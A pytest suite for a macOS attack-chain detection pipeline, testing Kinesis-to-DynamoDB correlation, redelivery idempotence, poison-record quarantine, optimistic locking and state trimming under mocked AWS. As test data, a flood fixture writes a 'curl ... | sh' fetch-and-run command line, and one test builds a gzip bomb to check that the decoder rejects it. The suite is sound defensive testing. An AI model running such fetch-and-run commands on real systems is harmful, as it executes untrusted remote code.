"""correlate under moto (`mock_aws`): real Kinesis records in, DynamoDB state and the findings outbox out.

Records are put on the template's Kinesis stream with ``PutRecords`` and read back with ``GetRecords``; the Lambda
event is built from that output by :func:`chainwatch.app.local.kinesis_event`. The pipeline code is the real one:
:func:`chainwatch.pipeline.correlate.process_batch` with :class:`~chainwatch.state.dynamodb.DynamoStateStore`, and
the Lambda handler ``functions/correlate/app.py``. DynamoDB calls are counted (and, where a test needs a throttle,
failed) by a botocore ``before-call`` hook on the sessions pynamodb creates, so "no call" means no call.
"""

from __future__ import annotations

import copy
import gzip
import random
from datetime import UTC, datetime, timedelta
from typing import Any

import boto3
import orjson
import pytest
from pipeline_support import (
    NOW,
    NOW_NS,
    POLICY,
    ROOT,
    DynamoCalls,
    Shard,
    correlate,
    drain_queue,
    item_size,
    make_store,
    one_batch,
    put_and_read,
    sample_entries,
    scan,
    state_items,
    stored_state,
)

from chainwatch.app.local import LambdaContext, create_resources, load_handler
from chainwatch.app.settings import Settings
from chainwatch.engine.codec import MAX_STATE_BYTES, StateDelta, dumps_state, encode_state, loads_state
from chainwatch.engine.engine import correlate_host
from chainwatch.engine.hoststate import HostState
from chainwatch.errors import StateConflictError
from chainwatch.findings.ocsf import validate_detection_finding
from chainwatch.pipeline.correlate import KinesisRecord, decode_payload
from chainwatch.sources.reader import Record
from chainwatch.state.dynamodb import (
    BASE_SK,
    STATE_SK,
    DynamoStateStore,
    LoadedState,
    OutboxRecord,
    Tables,
    make_models,
)

ESLOGGER = [orjson.loads(line) for line in (ROOT / "events" / "mac-01" / "eslogger.jsonl").read_bytes().splitlines()]
OCSF = [orjson.loads(line) for line in (ROOT / "events" / "mac-02" / "ocsf.json").read_bytes().splitlines()]
HOSTS = ["mac-01", "mac-02"]
MISSING_QUEUE = "https://sqs.us-east-1.amazonaws.com/123456789012/chainwatch-no-such-queue"


def _eslogger(index: int, **changes: Any) -> dict[str, Any]:
    doc: dict[str, Any] = copy.deepcopy(ESLOGGER[index])
    doc.update(changes)
    return doc


def _event_name(doc: dict[str, Any]) -> str:
    return next(iter(doc["event"]))


def _sample_index(name: str, executable_suffix: str) -> int:
    """Index of the first eslogger sample record of event ``name`` whose process path ends with the suffix."""
    return next(i for i, doc in enumerate(ESLOGGER) if _event_name(doc) == name
                and doc["process"]["executable"]["path"].endswith(executable_suffix))


@pytest.fixture
def samples(aws_names: dict[str, str], session: boto3.session.Session) -> list[Shard]:
    """The bundled samples on the template's stream, read back shard by shard."""
    return put_and_read(session, aws_names["TelemetryStream"], sample_entries())


def _run_samples(samples: list[Shard], aws: Settings, session: boto3.session.Session, **kwargs: Any) -> list[Any]:
    return [correlate(shard.batch(), aws, session, **kwargs) for shard in samples]


def _canonical(state: HostState) -> dict[str, Any]:
    """A state's encoding with every list sorted: the same evidence compares equal whatever its arrival order (and
    whatever the iteration order of the ``seen`` set)."""
    return {key: sorted(value, key=orjson.dumps) if isinstance(value, list) else value
            for key, value in encode_state(state).items()}


def _findings(session: boto3.session.Session, aws: Settings) -> dict[str, dict[str, Any]]:
    return {str(item["finding_id"]): item for item in scan(session, aws.tables.findings)}


# -- the bundled samples ---------------------------------------------------------------------------------------


def test_process_batch_bundled_samples_two_findings_revision_1_in_outbox(
        aws: Settings, session: boto3.session.Session, samples: list[Shard]) -> None:
    reports = _run_samples(samples, aws, session)

    assert all(r.failed_sequence_numbers == [] and r.quarantined == 0 for r in reports)
    assert sum(r.findings_written for r in reports) == 2
    items = scan(session, aws.tables.findings)
    assert sorted(str(i["host"]) for i in items) == HOSTS
    assert [int(i["revision"]) for i in items] == [1, 1]
    assert [int(i["is_alert"]) for i in items] == [1, 1]
    for item in items:
        document = orjson.loads(str(item["document"]))
        assert validate_detection_finding(document) == []
        assert document["finding_info"]["uid"] == item["finding_id"]
        assert document["device"]["hostname"] == item["host"]
        assert document["unmapped"]["chainwatch"]["stages_present"] == [1, 2, 3, 4]


@pytest.mark.parametrize("clock", ["after_events", "before_events"])
def test_process_batch_bundled_samples_head_and_base_per_host_expiring_two_windows_after_watermark_or_now(
        aws: Settings, session: boto3.session.Session, samples: list[Shard], clock: str) -> None:
    # The samples are from 2025/2026: "after" is the real clock, "before" a clock a year before the first event.
    now = NOW if clock == "after_events" else datetime(2024, 9, 1, tzinfo=UTC).timestamp()
    now_ns = int(now * 1e9)
    store = make_store(aws, clock=lambda: now)
    _run_samples(samples, aws, session, store=store, now_ns=now_ns)

    for host in HOSTS:
        items = {i["sk"]: i for i in state_items(session, aws.tables.state, host)}  # one Query on the partition key
        # A host's first write is its base (there is nothing to write a delta against), under the head.
        assert sorted(items) == [STATE_SK, BASE_SK]
        assert {i["pk"] for i in items.values()} == {f"host#{host}"}
        state, version, expires_at = stored_state(session, aws.tables.state, host)
        assert (state.host, version, int(items[STATE_SK]["base_seq"]), int(items[BASE_SK]["seq"])) == (host, 1, 1, 1)
        # The base outlives the head by the slack, so it is never gone while the head says the state is live.
        assert int(items[BASE_SK]["expires_at"]) == expires_at + int(store.ttl_slack.total_seconds())
        assert state.finding_digests and len(state) > 0
        expected_ns = max(state.watermark_ns, now_ns) + 2 * POLICY.window_ns
        assert expires_at == expected_ns // 1_000_000_000
        if clock == "before_events":
            assert expected_ns == state.watermark_ns + 2 * POLICY.window_ns
        else:
            assert expected_ns == now_ns + 2 * POLICY.window_ns


def test_process_batch_bundled_samples_one_query_and_one_transaction_per_host(
        aws: Settings, session: boto3.session.Session, samples: list[Shard], dynamo_calls: DynamoCalls) -> None:
    reports = _run_samples(samples, aws, session)

    for host in HOSTS:
        assert dynamo_calls.for_host(host) == ["Query", "TransactWriteItems"]
    assert sorted(dynamo_calls.operations()) == ["Query", "Query", "TransactWriteItems", "TransactWriteItems"]
    assert sum(r.state_reads for r in reports) == sum(r.state_writes for r in reports) == 2
    assert sum(r.hosts_touched for r in reports) == 2


# -- hosts with nothing usable -------------------------------------------------------------------------------


def _unusable_records() -> list[dict[str, Any]]:
    """An eslogger open, a close of an unmodified file, and a benign daemon's exit (mdworker_shared)."""
    opened = _eslogger(_sample_index("open", "/Archive Utility"))
    close = _eslogger(_sample_index("close", "/curl"))
    close["event"]["close"]["modified"] = False
    daemon_exit = _eslogger(_sample_index("exit", "/mdworker_shared"))
    return [opened, close, daemon_exit]


def test_process_batch_host_with_only_unusable_records_makes_no_dynamodb_call(
        aws: Settings, aws_names: dict[str, str], session: boto3.session.Session, dynamo_calls: DynamoCalls) -> None:
    entries = [("mac-quiet", orjson.dumps(doc)) for doc in _unusable_records()]
    shards = put_and_read(session, aws_names["TelemetryStream"], entries)

    report = correlate(one_batch(shards), aws, session)

    assert dynamo_calls.calls == []
    assert (report.records, report.events, report.hosts_skipped, report.hosts_touched) == (3, 1, 1, 0)
    assert (report.state_reads, report.state_writes, report.quarantined) == (0, 0, 0)
    assert state_items(session, aws.tables.state, "mac-quiet") == []


def test_process_batch_unusable_host_beside_a_busy_one_only_busy_host_costs_calls(
        aws: Settings, aws_names: dict[str, str], session: boto3.session.Session, dynamo_calls: DynamoCalls) -> None:
    quiet = [("mac-quiet", orjson.dumps(doc)) for doc in _unusable_records()]
    busy = [(key, data) for key, data in sample_entries() if key == "mac-02"]
    shards = put_and_read(session, aws_names["TelemetryStream"], quiet + busy)

    report = correlate(one_batch(shards), aws, session)

    assert dynamo_calls.for_host("mac-quiet") == []
    assert dynamo_calls.for_host("mac-02") == ["Query", "TransactWriteItems"]
    assert len(dynamo_calls.calls) == 2
    assert (report.hosts_skipped, report.hosts_touched, report.findings_written) == (1, 1, 1)


# -- redelivery ------------------------------------------------------------------------------------------------


def _snapshot(session: boto3.session.Session, aws: Settings) -> tuple[dict[str, Any], dict[str, tuple[Any, ...]]]:
    states = {host: stored_state(session, aws.tables.state, host) for host in HOSTS}
    return _findings(session, aws), {h: (_canonical(s), v, e) for h, (s, v, e) in states.items()}


def test_process_batch_same_batch_delivered_three_times_changes_nothing_after_the_first(
        aws: Settings, session: boto3.session.Session, samples: list[Shard], dynamo_calls: DynamoCalls) -> None:
    _run_samples(samples, aws, session)
    before = _snapshot(session, aws)
    dynamo_calls.clear()

    again = _run_samples(samples, aws, session) + _run_samples(samples, aws, session)

    assert "TransactWriteItems" not in dynamo_calls.operations()  # no state write, no outbox write
    assert all((r.findings_written, r.state_writes, r.failed_sequence_numbers) == (0, 0, []) for r in again)
    assert _snapshot(session, aws) == before  # same items, same versions, same outbox revisions and timestamps


def test_process_batch_redelivery_from_a_middle_record_changes_nothing(
        aws: Settings, session: boto3.session.Session, samples: list[Shard], dynamo_calls: DynamoCalls) -> None:
    _run_samples(samples, aws, session)
    before = _snapshot(session, aws)
    dynamo_calls.clear()

    reports = [correlate(shard.batch(len(shard.records) // 2), aws, session) for shard in samples]

    assert all(r.records > 0 and r.events > 0 for r in reports)
    assert "TransactWriteItems" not in dynamo_calls.operations()
    assert _snapshot(session, aws) == before


def _other_tables(session: boto3.session.Session, prefix: str) -> Settings:
    names = create_resources(ROOT / "template.yaml", session, None, prefix=prefix)
    return Settings(tables=Tables(state=names["ChainStateTable"], findings=names["FindingsTable"],
                                  deliveries=names["DeliveriesTable"], region="us-east-1"),
                    quarantine_queue_url=names["QuarantineQueue"])


def test_process_batch_split_by_transient_failure_and_retried_from_failed_record_same_state_as_clean_run(
        aws: Settings, session: boto3.session.Session, samples: list[Shard], dynamo_calls: DynamoCalls) -> None:
    clean = _other_tables(session, "clean")
    _run_samples(samples, clean, session)

    # mac-01's commit is throttled once: its records become batch item failures, and Lambda re-delivers the shard
    # from the lowest failed sequence number on (whatever else that includes is processed a second time).
    dynamo_calls.fail("TransactWriteItems", host="mac-01")
    retried = 0
    for shard in samples:
        report = correlate(shard.batch(), aws, session)
        if report.failed_sequence_numbers:
            lowest = report.failed_sequence_numbers[0]
            start = next(i for i, r in enumerate(shard.records) if r["SequenceNumber"] == lowest)
            assert 0 <= start < len(shard.records)
            retry = correlate(shard.batch(start), aws, session)
            assert retry.failed_sequence_numbers == []
            retried += 1
    assert retried == 1

    for host in HOSTS:
        split_state, _, _ = stored_state(session, aws.tables.state, host)
        clean_state, _, _ = stored_state(session, clean.tables.state, host)
        assert _canonical(split_state) == _canonical(clean_state)
    split, reference = _findings(session, aws), _findings(session, clean)
    assert sorted(split) == sorted(reference) and len(split) == 2
    for finding_id, item in split.items():
        expected = reference[finding_id]
        assert (item["revision"], item["digest"]) == (expected["revision"], expected["digest"])
        assert orjson.loads(str(item["document"])) == orjson.loads(str(expected["document"]))


# -- poison records --------------------------------------------------------------------------------------------


def _poison_entries() -> tuple[list[tuple[str, bytes]], dict[int, str]]:
    """good, four kinds of poison, good (all for mac-01, so one shard in order), and each poison's reason."""
    good_first = _eslogger(_sample_index("exec", "/UpdateHelper"))
    good_last = _eslogger(_sample_index("exec", "/bin/bash"))
    no_token = _eslogger(_sample_index("exec", "/bin/sh"))
    del no_token["process"]["audit_token"]
    corrupt_gzip = gzip.compress(orjson.dumps(good_first))[:10] + bytes(range(200, 256)) * 2
    entries = [
        ("mac-01", orjson.dumps(good_first)),
        ("mac-01", b'{"event_type": 9, "time": "2026-03-02T09:16:58Z", "process": {'),
        ("mac-01", corrupt_gzip),
        ("mac-01", orjson.dumps(no_token)),
        ("mac-01", orjson.dumps({"host": "mac-01", "source": "eslogger", "event": "exec /bin/sh"})),
        ("mac-01", orjson.dumps(good_last)),
    ]
    reasons = {1: "not valid JSON", 2: "gzip", 3: "audit_token", 4: "envelope 'event' is not an object"}
    return entries, reasons


def test_process_batch_poison_between_good_records_quarantined_with_reason_and_good_ones_processed(
        aws: Settings, aws_names: dict[str, str], session: boto3.session.Session) -> None:
    entries, reasons = _poison_entries()
    (shard,) = put_and_read(session, aws_names["TelemetryStream"], entries)
    sequence = [r["SequenceNumber"] for r in shard.records]

    report = correlate(shard.batch(), aws, session)

    assert report.failed_sequence_numbers == []
    assert report.quarantined == 4
    messages = sorted(drain_queue(session, aws_names["QuarantineQueue"]), key=lambda m: int(m["sequence_number"]))
    assert [m["sequence_number"] for m in messages] == [sequence[i] for i in sorted(reasons)]
    for message, index in zip(messages, sorted(reasons), strict=True):
        assert reasons[index] in message["reason"], message
        assert message["location"].endswith(f"#{sequence[index]}")
        assert message["partition_key"] == "mac-01"
    # Both good records are in the state (an admitted record's identity is its stream position and time).
    state, _, _ = stored_state(session, aws.tables.state, "mac-01")
    held = {ref.split("|", 1)[0].rsplit("#", 1)[1] for ref, _ in state.seen}
    assert held == {sequence[0], sequence[5]}


def test_process_batch_quarantine_unavailable_poison_becomes_batch_item_failure(
        aws: Settings, aws_names: dict[str, str], session: boto3.session.Session) -> None:
    entries, reasons = _poison_entries()
    (shard,) = put_and_read(session, aws_names["TelemetryStream"], entries)
    sequence = [r["SequenceNumber"] for r in shard.records]

    report = correlate(shard.batch(), aws, session, quarantine_url=MISSING_QUEUE)

    assert report.failed_sequence_numbers == [sequence[i] for i in sorted(reasons)]
    assert report.quarantined == 0
    state, _, _ = stored_state(session, aws.tables.state, "mac-01")
    assert len(state.seen) == 2  # the good records still went through


def test_decode_payload_corrupt_deflate_after_valid_gzip_header_rejected_not_raised() -> None:
    # A valid gzip header followed by garbage makes zlib (not gzip) raise: it must still be a rejection.
    data = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + b"\xff" * 40
    items, host, forced = decode_payload(KinesisRecord("7", "mac-01", data, "shardId-000000000000"))
    assert (host, forced) == ("mac-01", None)
    (item,) = items
    assert not isinstance(item, Record) and "gzip" in item.reason
    assert str(item.ref) == "kinesis:shardId-000000000000#7"


def test_decode_payload_gzip_bomb_rejected_without_inflating_it() -> None:
    bomb = gzip.compress(b" " * 40_000_000, compresslevel=9)
    assert len(bomb) < 1_000_000  # fits a Kinesis record with room to spare
    (item,), _, _ = decode_payload(KinesisRecord("8", "mac-01", bomb))
    assert not isinstance(item, Record) and "expands beyond" in item.reason


# -- decoding: gzip, envelopes, hosts --------------------------------------------------------------------------


def test_process_batch_gzip_records_and_envelopes_same_findings_as_plain_records(
        aws: Settings, aws_names: dict[str, str], session: boto3.session.Session) -> None:
    plain_tables = _other_tables(session, "plain")
    plain = put_and_read(session, aws_names["TelemetryStream"], sample_entries())
    _run_samples(plain, plain_tables, session)

    # Every other record gzip'd; every third wrapped in an envelope (naming host and source) under another key.
    wrapped: list[tuple[str, bytes]] = []
    for index, (host, line) in enumerate(sample_entries()):
        key, data = host, line
        if index % 3 == 0:
            source = "eslogger" if b'"event_type"' in line else None
            envelope = {"host": host, "event": orjson.loads(line), **({"source": source} if source else {})}
            key, data = f"collector-{index % 2}", orjson.dumps(envelope)
        wrapped.append((key, gzip.compress(data) if index % 2 == 0 else data))
    stream = create_resources(ROOT / "template.yaml", session, None, prefix="wrapped")["TelemetryStream"]
    shards = put_and_read(session, stream, wrapped)

    report = correlate(one_batch(shards), aws, session)

    assert (report.quarantined, report.failed_sequence_numbers) == (0, [])
    wrapped_findings, plain_findings = _findings(session, aws), _findings(session, plain_tables)
    assert sorted(wrapped_findings) == sorted(plain_findings) and len(wrapped_findings) == 2
    for finding_id, item in wrapped_findings.items():
        # Same chain; only the evidence references (stream positions) differ.
        wrapped_chain = orjson.loads(str(item["document"]))["unmapped"]["chainwatch"]
        plain_chain = orjson.loads(str(plain_findings[finding_id]["document"]))["unmapped"]["chainwatch"]
        for key in ("stages_present", "route", "process_tree", "egress", "files", "links"):
            assert wrapped_chain[key] == plain_chain[key], key
    assert state_items(session, aws.tables.state, "collector-0") == []  # envelope host wins over partition key


def test_process_batch_raw_line_without_host_field_keyed_by_partition_key(
        aws: Settings, aws_names: dict[str, str], session: boto3.session.Session) -> None:
    # eslogger lines carry no host: the partition key (the producer's host id) names it.
    entries = [("laptop-7", data) for key, data in sample_entries() if key == "mac-01" and b'"event_type"' in data]
    shards = put_and_read(session, aws_names["TelemetryStream"], entries)

    correlate(one_batch(shards), aws, session)

    assert stored_state(session, aws.tables.state, "laptop-7")[0].host == "laptop-7"
    assert state_items(session, aws.tables.state, "mac-01") == []


# -- optimistic locking ----------------------------------------------------------------------------------------


class RacingStore(DynamoStateStore):
    """A store whose first commit is preceded by another writer's commit for the same host (a real race)."""

    def __init__(self, settings: Settings, session: boto3.session.Session, interloper: list[KinesisRecord],
                 max_retries: int = 5) -> None:
        super().__init__(make_models(settings.tables), clock=lambda: NOW)
        self.settings, self.session, self.interloper = settings, session, interloper
        self.max_retries = max_retries
        self.commits = 0
        self.raced: Any = None

    def commit(self, loaded: LoadedState, outbox: list[OutboxRecord], expires_ns: int,
               delta: StateDelta | None = None) -> None:
        self.commits += 1
        if self.commits == 1:
            self.raced = correlate(self.interloper, self.settings, self.session)  # a second, real store
        super().commit(loaded, outbox, expires_ns, delta)


def _split_mac02(session: boto3.session.Session, stream: str) -> tuple[list[KinesisRecord], list[KinesisRecord]]:
    """mac-02's records without its network activity (the interloper's), and the network records alone."""
    shards = put_and_read(session, stream, [(k, d) for k, d in sample_entries() if k == "mac-02"])
    records = one_batch(shards)
    network = [r for r in records if b'"class_uid":4001' in r.data]
    assert network
    return [r for r in records if r not in network], network


def test_process_batch_concurrent_writer_between_load_and_commit_conflict_retried_both_effects_kept(
        aws: Settings, aws_names: dict[str, str], session: boto3.session.Session) -> None:
    mine, theirs = _split_mac02(session, aws_names["TelemetryStream"])
    store = RacingStore(aws, session, theirs)

    report = correlate(mine, aws, session, store=store)

    assert store.raced.state_writes == 1 and store.raced.findings_written == 0  # alone, the egress is no chain
    assert (report.conflicts, report.state_reads, report.state_writes) == (1, 2, 1)
    assert report.failed_sequence_numbers == []
    state, version, _ = stored_state(session, aws.tables.state, "mac-02")
    assert version == 2  # the interloper's write, then ours on top of it
    held = {ref.split("|", 1)[0].rsplit("#", 1)[1] for ref, _ in state.seen}
    assert held & {r.sequence_number for r in mine} and held & {r.sequence_number for r in theirs}
    # Nothing lost: the same state as one writer processing both parts.
    single = _other_tables(session, "single")
    correlate(mine + theirs, single, session)
    assert _canonical(state) == _canonical(stored_state(session, single.tables.state, "mac-02")[0])
    # The chain needed both writers' evidence: the finding exists only because the retry re-read the egress.
    (item,) = scan(session, aws.tables.findings)
    document = orjson.loads(str(item["document"]))
    assert document["unmapped"]["chainwatch"]["stages_present"] == [1, 2, 3, 4]
    assert int(item["revision"]) == 1


def test_commit_state_condition_fails_finding_not_written_either(
        aws: Settings, aws_names: dict[str, str], session: boto3.session.Session, dynamo_calls: DynamoCalls) -> None:
    mine, theirs = _split_mac02(session, aws_names["TelemetryStream"])
    store = RacingStore(aws, session, theirs)

    report = correlate(mine, aws, session, store=store, max_conflict_retries=0)

    # The transaction carried the (partial, stages 1-3) finding and the stale state write: the head's version
    # condition failed, so neither landed.
    (transaction,) = [c for c in dynamo_calls.calls if c.operation == "TransactWriteItems"
                      and any(t["Put"]["TableName"] == aws.tables.findings for t in c.params["TransactItems"])]
    puts = {(t["Put"]["TableName"], t["Put"]["Item"]["sk"]["S"] if "sk" in t["Put"]["Item"] else "finding"): t["Put"]
            for t in transaction.params["TransactItems"]}
    assert sorted(puts) == sorted([(aws.tables.state, STATE_SK), (aws.tables.state, BASE_SK),
                                   (aws.tables.findings, "finding")])
    assert "ConditionExpression" in puts[(aws.tables.state, STATE_SK)]
    assert report.conflicts == 1 and report.findings_written == 0
    assert report.failed_sequence_numbers and report.failed_sequence_numbers[0] == mine[0].sequence_number
    assert set(report.failed_sequence_numbers) <= {r.sequence_number for r in mine}
    assert scan(session, aws.tables.findings) == []
    _, version, _ = stored_state(session, aws.tables.state, "mac-02")
    assert version == 1  # only the interloper's write


def test_commit_outbox_write_fails_state_not_written_either(
        aws: Settings, aws_names: dict[str, str], session: boto3.session.Session) -> None:
    shards = put_and_read(session, aws_names["TelemetryStream"], [(k, d) for k, d in sample_entries() if k == "mac-02"])
    broken = Tables(state=aws.tables.state, findings="no-such-findings-table", deliveries=aws.tables.deliveries)
    store = DynamoStateStore(make_models(broken), clock=lambda: NOW)

    records = one_batch(shards)

    report = correlate(records, aws, session, store=store)

    assert report.failed_sequence_numbers and report.failed_sequence_numbers[0] == records[0].sequence_number
    assert report.state_writes == 0
    assert state_items(session, aws.tables.state, "mac-02") == []


def test_commit_stale_version_raises_state_conflict(aws: Settings, session: boto3.session.Session) -> None:
    store = make_store(aws)
    first, second = store.load("mac-09"), store.load("mac-09")
    store.commit(first, [], NOW_NS)
    with pytest.raises(StateConflictError):
        store.commit(second, [], NOW_NS)


# -- expired state ---------------------------------------------------------------------------------------------


def test_load_expired_item_still_stored_returns_fresh_state_and_commit_succeeds_on_its_version(
        aws: Settings, aws_names: dict[str, str], session: boto3.session.Session, dynamo_calls: DynamoCalls) -> None:
    models = make_models(aws.tables)
    old = HostState("mac-02", watermark_ns=1_000)
    old.seen.add(("kinesis:old#1", "1000"))
    old.version = 41
    blob, _ = dumps_state(old)
    expired = models.state("host#mac-02", STATE_SK, blob=blob, watermark_ns=1_000,
                           expires_at=datetime.fromtimestamp(NOW, tz=UTC) - timedelta(hours=1))
    expired.save()
    expired.save()  # version 2
    assert len(state_items(session, aws.tables.state, "mac-02")) == 1  # TTL is lazy: moto never deletes it

    store = make_store(aws)
    dynamo_calls.clear()
    loaded = store.load("mac-02")
    assert dynamo_calls.operations() == ["Query"]
    assert (len(loaded.state), loaded.state.seen, loaded.state.version) == (0, set(), 0)
    assert loaded.item is not None and loaded.item.version == 2

    shards = put_and_read(session, aws_names["TelemetryStream"], [(k, d) for k, d in sample_entries() if k == "mac-02"])
    report = correlate(one_batch(shards), aws, session, store=store)

    assert (report.state_writes, report.conflicts, report.findings_written) == (1, 0, 1)
    state, version, expires_at = stored_state(session, aws.tables.state, "mac-02")
    assert version == 3
    assert ("kinesis:old#1", "1000") not in state.seen
    assert expires_at > NOW


# -- size ------------------------------------------------------------------------------------------------------


#: Interpreter launches in the flood: their state compresses to ~360 KB, over the codec's limit.
FLOOD = 2_500


def _flood(count: int) -> list[tuple[str, bytes]]:
    """Microsoft Word spawning ``count`` distinct zsh one-liners (each a tracked interpreter), then their exits."""
    launch = next(doc for doc in OCSF if doc["class_uid"] == 1007 and doc["activity_id"] == 1
                  and doc["process"]["path"] == "/bin/zsh")
    terminate = next(doc for doc in OCSF if doc["class_uid"] == 1007 and doc["activity_id"] == 2)
    rng = random.Random(1316)
    entries = []
    exits = []
    for i in range(count):
        pid, uid = 20_000 + i, f"{20_000 + i}:{rng.getrandbits(48)}"
        tokens = " ".join(f"{rng.getrandbits(128):032x}" for _ in range(4))
        doc = copy.deepcopy(launch)
        doc["time"] = launch["time"] + i
        doc["metadata"]["uid"] = f"flood-{i}"
        doc["process"].update(pid=pid, uid=uid, created_time=doc["time"],
                              cmd_line=f"/bin/zsh -c 'curl -s https://{tokens.replace(' ', '/')} | sh'")
        entries.append(("mac-02", orjson.dumps(doc)))
        end = copy.deepcopy(terminate)
        end["time"] = launch["time"] + count + 1_000 + i
        end["metadata"]["uid"] = f"flood-exit-{i}"
        end["process"] = copy.deepcopy(doc["process"])
        end["actor"] = {"process": copy.deepcopy(doc["process"])}
        exits.append(("mac-02", orjson.dumps(end)))
    return entries + exits


def test_process_batch_host_flooded_with_interpreter_execs_state_trimmed_under_item_limit_and_committed(
        aws: Settings, aws_names: dict[str, str], session: boto3.session.Session) -> None:
    shards = put_and_read(session, aws_names["TelemetryStream"], _flood(FLOOD))
    store = make_store(aws)

    report = correlate(one_batch(shards), aws, session, store=store)

    assert (report.events, report.state_writes, report.failed_sequence_numbers) == (2 * FLOOD, 1, [])
    assert store.trimmed > 0  # the untrimmed state is larger than the limit
    (item,) = [i for i in state_items(session, aws.tables.state, "mac-02") if i["sk"] == BASE_SK]
    assert len(bytes(item["blob"])) <= MAX_STATE_BYTES
    assert item_size(item) < 400 * 1024
    state = loads_state(bytes(item["blob"]))
    kept = sorted(n.pid for n in state.processes.nodes.values() if n.pid >= 20_000)
    assert 0 < len(kept) < FLOOD
    # The oldest evidence went first: what is left is the most recent processes.
    assert kept == list(range(20_000 + FLOOD - len(kept), 20_000 + FLOOD))
    assert state.horizon_ns > 0
    assert report.trimmed == store.trimmed


# -- the Lambda handler ----------------------------------------------------------------------------------------


@pytest.fixture
def handler_env(aws: Settings, monkeypatch: pytest.MonkeyPatch) -> Settings:
    for key, value in {
        "STATE_TABLE": aws.tables.state, "FINDINGS_TABLE": aws.tables.findings,
        "DELIVERIES_TABLE": aws.tables.deliveries, "QUARANTINE_QUEUE_URL": aws.quarantine_queue_url or "",
        "AWS_REGION": "us-east-1", "POWERTOOLS_TRACE_DISABLED": "1", "POWERTOOLS_METRICS_DISABLED": "1",
        "POWERTOOLS_METRICS_NAMESPACE": "chainwatch", "POWERTOOLS_SERVICE_NAME": "chainwatch-correlate",
        "POWERTOOLS_LOG_LEVEL": "WARNING",
    }.items():
        monkeypatch.setenv(key, value)
    return aws


def _invoke(event: dict[str, Any]) -> dict[str, Any]:
    handler = load_handler("correlate", ROOT)
    response: dict[str, Any] = handler.lambda_handler(event, LambdaContext(function_name="chainwatch-correlate"))
    return response


def test_lambda_handler_kinesis_events_from_get_records_two_findings_and_empty_failure_list(
        handler_env: Settings, session: boto3.session.Session, samples: list[Shard]) -> None:
    responses = [_invoke(shard.event()) for shard in samples]

    assert responses == [{"batchItemFailures": []}] * len(samples)
    items = scan(session, handler_env.tables.findings)
    assert sorted(str(i["host"]) for i in items) == HOSTS
    assert [int(i["revision"]) for i in items] == [1, 1]
    # Delivered twice more (at-least-once): nothing changes.
    before = _findings(session, handler_env)
    for _ in range(2):
        assert [_invoke(shard.event()) for shard in samples] == responses
    assert _findings(session, handler_env) == before
    assert [stored_state(session, handler_env.tables.state, h)[1] for h in HOSTS] == [1, 1]


def test_lambda_handler_poison_with_quarantine_down_reports_poison_as_batch_item_failures(
        handler_env: Settings, aws_names: dict[str, str], session: boto3.session.Session,
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("QUARANTINE_QUEUE_URL", MISSING_QUEUE)
    entries, reasons = _poison_entries()
    (shard,) = put_and_read(session, aws_names["TelemetryStream"], entries)

    response = _invoke(shard.event())

    failed = [f["itemIdentifier"] for f in response["batchItemFailures"]]
    assert failed == [shard.records[i]["SequenceNumber"] for i in sorted(reasons)]


def test_lambda_handler_poison_quarantined_and_no_failure_reported(
        handler_env: Settings, aws_names: dict[str, str], session: boto3.session.Session) -> None:
    entries, reasons = _poison_entries()
    (shard,) = put_and_read(session, aws_names["TelemetryStream"], entries)

    response = _invoke(shard.event())

    assert response == {"batchItemFailures": []}
    messages = drain_queue(session, aws_names["QuarantineQueue"])
    assert sorted(m["sequence_number"] for m in messages) == sorted(
        shard.records[i]["SequenceNumber"] for i in reasons)


# -- known gaps outside the pipeline (strict: they fail loudly once fixed, so the marker gets removed) --------


def test_correlate_host_two_events_from_one_record_both_admitted() -> None:
    from chainwatch.sources import Normalizer
    from chainwatch.sources.reader import read_path

    path = ROOT / "tests" / "unit" / "sources" / "data" / "jamf_protect" / "GPDownloadEvent.json"
    events = list(Normalizer().run(read_path(path), "mac-03"))
    assert [type(e).__name__ for e in events] == ["FileWrite", "XattrChange"]
    state = HostState(events[0].host)
    result = correlate_host(state, events, POLICY)
    assert (result.admitted, len(state.files), len(state.xattrs)) == (2, 1, 1)


def test_correlate_unreadable_stored_state_started_afresh_and_reported(aws: Any) -> None:
    """A corrupted (or newer-format) state item must not block the shard: the host starts afresh, counted."""
    from chainwatch.pipeline.correlate import KinesisRecord, process_batch
    from chainwatch.policy import load_policy
    from chainwatch.state.dynamodb import STATE_SK, DynamoStateStore, make_models

    models = make_models(aws.tables)
    models.state("host#mac-01", STATE_SK, blob=b"not zlib at all", watermark_ns=0).save()
    store = DynamoStateStore(models)
    records = [KinesisRecord(str(i + 1), host, data, "shardId-0") for i, (host, data) in
               enumerate(sample_entries()) if host == "mac-01"]
    report = process_batch(records, policy=load_policy(), store=store, quarantine=lambda entries: None,
                           now_ns=lambda: NOW_NS)
    assert report.failed_sequence_numbers == []
    assert len(report.state_resets) == 1 and "mac-01" in report.state_resets[0]
    assert report.state_writes == 1 and report.findings_written == 1


def test_correlate_coverage_flushed_to_state_table_and_read_back_by_cli(
        aws: Any, session: boto3.session.Session, capsys: pytest.CaptureFixture[str]) -> None:
    """Coverage counters land in the state table (one UpdateItem per host per interval) and `chainwatch coverage
    --table` turns them into per-host verdicts."""
    from chainwatch.app.cli import main
    from chainwatch.errors import TransientError
    from chainwatch.pipeline.correlate import KinesisRecord, process_batch
    from chainwatch.policy import load_policy
    from chainwatch.readiness.coverage import CoverageBuffer, read_table
    from chainwatch.state.dynamodb import DynamoStateStore, make_models

    client = session.client("dynamodb")
    writes: list[dict[str, Any]] = []

    def writer(request: dict[str, Any]) -> None:
        writes.append(request)
        try:
            client.update_item(TableName=aws.tables.state, **request)
        except client.exceptions.ClientError as exc:
            raise TransientError(str(exc)) from exc

    buffer = CoverageBuffer(load_policy(), interval_ns=0)
    records = [KinesisRecord(str(i + 1), host, data, "shardId-0") for i, (host, data) in enumerate(sample_entries())]
    report = process_batch(records, policy=load_policy(), store=DynamoStateStore(make_models(aws.tables)),
                           quarantine=lambda entries: None, now_ns=lambda: NOW_NS, coverage=buffer,
                           coverage_writer=writer)
    assert report.coverage_flushes == len(writes) == 2  # one per host
    hosts = read_table(client, aws.tables.state)
    assert sorted(hosts) == ["mac-01", "mac-02"]
    assert hosts["mac-01"].net_total == 3 and hosts["mac-01"].net_with_pid == 3
    # The same buffer with an interval does not flush again at once (no call for those hosts).
    quiet = CoverageBuffer(load_policy())
    quiet.flushed_at = {"mac-01": NOW_NS, "mac-02": NOW_NS}
    quiet.observe([])
    assert quiet.requests(NOW_NS + 10**9) == []
